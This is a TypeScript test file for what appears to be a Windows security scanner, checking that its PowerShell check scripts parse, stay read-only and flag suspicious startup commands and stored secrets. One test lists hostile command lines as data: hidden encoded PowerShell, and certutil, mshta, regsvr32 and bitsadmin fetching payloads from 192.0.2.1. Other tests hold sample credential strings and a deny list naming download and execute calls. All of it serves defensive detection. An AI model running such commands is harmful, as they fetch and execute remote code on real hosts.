/**
 * The scripts for Windows as a parser of PowerShell reads them. No PowerShell ran them: this holds them in a part of the language that
 * is safe and plain, and no more.
 */
import assert from 'node:assert/strict';
import { globSync, readFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { test } from 'node:test';
import { mistakesIn, parsePowerShell, STARTING, WRITING } from '../../../../test/support/windows/powershell-lint.ts';
import { deadNamesIn, functionsOf, variablesOf } from '../../../../test/support/windows/powershell-names.ts';
import { parseHeader } from '../header.ts';

const HOST = join(import.meta.dirname, '../..');
const read = (pattern: string) =>
  globSync(pattern, { cwd: HOST })
    .toSorted()
    .map((path) => ({ name: basename(path), text: readFileSync(join(HOST, path), 'utf8') }));
const [prelude] = read('native/prelude.ps1');
const checks = read('checks/windows/*.ps1');
const probes = read('probes/windows/*.ps1');
assert.ok(prelude);
const shared = (await parsePowerShell(prelude.text)).functions;

test('every script for Windows can be parsed, and calls nothing that changes a host or that is not there', async () => {
  assert.equal(checks.length, 30);
  for (const { name, text } of [prelude, ...probes, ...checks]) {
    const further = name.startsWith('W-') ? undefined : WRITING;
    assert.deepEqual(mistakesIn(await parsePowerShell(text), shared, further), [], name);
  }
});

test('no script reads a variable that nothing sets, or calls a function with words that it does not take', async () => {
  const shared = { functions: await functionsOf(prelude.text), variables: await variablesOf(prelude.text) };
  assert.deepEqual(shared.functions.get('JudgeRegistry')?.parameters, [
    ...['path', 'name', 'missing', 'good', 'bad', 'severity'],
  ]);
  for (const { name, text } of [prelude, ...probes, ...checks]) {
    assert.deepEqual(await deadNamesIn(text, shared), [], name);
  }
  const [runner] = read('bundle/holdfast-scan.ps1');
  assert.deepEqual(await deadNamesIn(runner?.text ?? '', { functions: new Map(), variables: new Set() }), []);
  const broken = "function Detect {\n  Fail 'a' 'b' -Severty low\n  Pass 'a' 'b' 'c'\n  Unknown $reasn\n}";
  assert.deepEqual(await deadNamesIn(broken, shared), [
    'line 2: Fail takes no -Severty',
    'line 3: Pass takes 2 words here, and is given 3',
    'line 4: nothing sets $reasn',
  ]);
});

test('what runs the checks where there is no Node can be parsed, and calls no more than it needs', async () => {
  const [runner] = read('bundle/holdfast-scan.ps1');
  assert.ok(runner);
  assert.deepEqual(mistakesIn(await parsePowerShell(runner.text), new Set(), STARTING), []);
  assert.match(runner.text, /^[\n\x20-\x7e]*$/);
  // Whoever owns a folder can give themselves any right there.
  assert.match(runner.text, /\.GetOwner\(/);
  // Of 32 bits it would be shown another registry.
  assert.match(runner.text, /Is64BitOperatingSystem -and -not \[Environment\]::Is64BitProcess/);
});

test('every check detects, says each of its verdicts, and is marked as not yet run on Windows', async () => {
  for (const { name, text } of checks) {
    const { functions, commands } = await parsePowerShell(text);
    assert.ok(functions.has('Detect'), name);
    assert.ok(!functions.has('Fix') && !functions.has('Look'), name);
    const called = new Set(commands.map((each) => each.name));
    assert.ok(called.has('Fail') || called.has('Judge') || called.has('JudgeRegistry'), name);
    const { isTested, fix, platform, probes: facts } = parseHeader(name, text);
    assert.deepEqual([isTested, fix, platform], [false, 'manual', 'windows'], name);
    // What a check reads of what was looked at once stands in its header, or it would not be there.
    for (const [, fact] of text.matchAll(/NeedFacts '(\w+)'/g))
      assert.ok(
        facts.some((each) => each === fact),
        name,
      );
    assert.equal(facts.length, new Set([...text.matchAll(/NeedFacts '(\w+)'/g)].map(([, fact]) => fact)).size, name);
  }
  for (const { name, text } of probes) assert.ok((await parsePowerShell(text)).functions.has('Look'), name);
});

test('a program is not asked for on another computer, and the words that it is started with are not told', async () => {
  for (const { name, text } of checks) {
    const at = text.indexOf('[IO.File]::Exists($program)');
    const asked = text.indexOf('IsElsewhere $program');
    if (at >= 0) assert.ok(asked >= 0 && asked < at, name);
    for (const each of (await parsePowerShell(text)).commands) {
      if (each.name === 'Fail') assert.doesNotMatch(each.text, /CommandLineTemplate|Arguments|\$Command\b/i, name);
    }
  }
});

test('every script for Windows is ASCII: without a mark PowerShell 5.1 takes it for text of the code page', () => {
  for (const { name, text } of [prelude, ...probes, ...checks]) assert.match(text, /^[\t\n\x20-\x7e]*$/, name);
});

const RULES = readFileSync(join(import.meta.dirname, 'start-commands.tsv'), 'utf8')
  .split('\n')
  .filter((line) => line !== '' && !line.startsWith('#'))
  .map((line) => line.split('\t'));
const reasonOf = (command: string): string | undefined =>
  RULES.find(([, pattern]) => new RegExp(pattern ?? '', 'i').test(command))?.[0];

test('a command line that hides or fetches what it runs is told from those that Windows and its programs start', () => {
  assert.deepEqual(
    RULES.map((fields) => fields.length),
    RULES.map(() => 2),
  );
  const bad = [
    'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A',
    'C:\\Windows\\System32\\cmd.exe /c certutil.exe -urlcache -f http://192.0.2.1/a a.exe',
    'mshta.exe http://192.0.2.1/a.hta',
    'regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll',
    'rundll32.exe javascript:"\\..\\mshtml"',
    'bitsadmin /transfer job http://192.0.2.1/a C:\\a.exe',
  ];
  for (const command of bad) assert.ok(reasonOf(command), command);
  const good = [
    '%windir%\\system32\\rundll32.exe /d acproxy.dll,PerformAutochkOperations',
    'C:\\Program Files\\Google\\Update\\GoogleUpdate.exe /ua /installsource scheduler',
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -ExecutionPolicy Bypass -File C:\\Tools\\backup.ps1',
    'C:\\Windows\\system32\\svchost.exe -k netsvcs -p',
    'C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\x.dll',
  ];
  for (const command of good) assert.equal(reasonOf(command), undefined, command);
});

test('no parameter is called like a variable of its script: what is called from there would see the parameter', async () => {
  for (const { name, text } of [prelude, ...probes, ...checks]) {
    const own = [...text.matchAll(/^\$(\w+) = /gm)].map(([, each = '']) => each.toLowerCase());
    const taken = [...(await functionsOf(text)).values()].flatMap(({ parameters }) => parameters);
    assert.deepEqual(
      own.filter((each) => taken.includes(each)),
      [],
      name,
    );
  }
});

test('a secret in a file is told from what stands in its place in examples', () => {
  const text = checks.find(({ name }) => name === 'W-CRD-01.ps1')?.text ?? '';
  const kinds = [...text.matchAll(/^ {2}@\('([^']+)', '((?:[^']|'')+)'\),?$/gm)].map(([, kind = '', pattern = '']) => ({
    kind,
    // .NET has its flags in the pattern, and '' in a text is one quote.
    pattern: new RegExp(pattern.replaceAll("''", "'").replace('(?i)', ''), pattern.startsWith('(?i)') ? 'i' : ''),
  }));
  assert.equal(kinds.length, 8);
  const kindOf = (line: string) => kinds.find(({ pattern }) => pattern.test(line))?.kind;
  assert.equal(kindOf('aws_access_key_id = AKIAQ7XJ5KZ3M2WNT4PL'), 'a key of AWS');
  assert.equal(
    kindOf(`AccountKey=${'a'.repeat(86)}==;EndpointSuffix=core.windows.net`),
    'a key of an Azure storage account',
  );
  assert.equal(kindOf('https://ada:n0tHers-but-ours@git.example.org/'), 'a password in an address');
  assert.equal(kindOf("convertto-securestring 'Tr0ub4dor&3' -AsPlainText -Force"), 'a password in a command');
  assert.equal(kindOf('ConvertTo-SecureString $password -AsPlainText -Force'), undefined);
  assert.equal(kindOf('role_arn = arn:aws:iam::123456789012:role/akiaq7xj5kz3m2wnt4pl'), undefined);
  assert.equal(kindOf('"auths": { "https://index.docker.io/v1/": {} }, "credsStore": "wincred"'), undefined);
});

const BROKEN: readonly (readonly [string, string, RegExp])[] = [
  ['a quote that is not closed', "function Detect {\n  Fail 'x\n}", /cannot be parsed/],
  ['a bracket that is not closed', 'function Detect {\n  if ($a { Pass }\n}', /cannot be parsed/],
  ['text that is run', 'function Detect {\n  Invoke-Expression $text\n}', /Invoke-Expression/],
  ['a download', 'function Detect {\n  Invoke-WebRequest $address\n}', /Invoke-WebRequest/],
  ['an alias', 'function Detect {\n  gci C:\\\n}', /gci/],
  ['a change', "function Detect {\n  Set-ItemProperty 'HKLM:\\x' -Name y -Value 1\n}", /Set-ItemProperty/],
  [
    'a program by a variable',
    'function Detect {\n  & $program\n}',
    /a program is called by a name that is not written out/,
  ],
  ['a type that nobody looked at', 'function Detect {\n  [Net.WebClient]::new()\n}', /Net\.WebClient/],
  ['an object of a type that nobody looked at', 'function Detect {\n  New-Object Net.WebClient\n}', /Net\.WebClient/],
  ['a method that writes', "function Detect {\n  [IO.File]::Copy('a', 'b')\n}", /Copy/],
  ['a file that is written', 'function Detect {\n  Pass > C:\\x\n}', /redirect/],
];
for (const [what, text, message] of BROKEN) {
  test(`a script with ${what} is refused`, async () => {
    const mistakes = mistakesIn(await parsePowerShell(text), shared);
    assert.match(mistakes.join('\n'), message);
  });
}
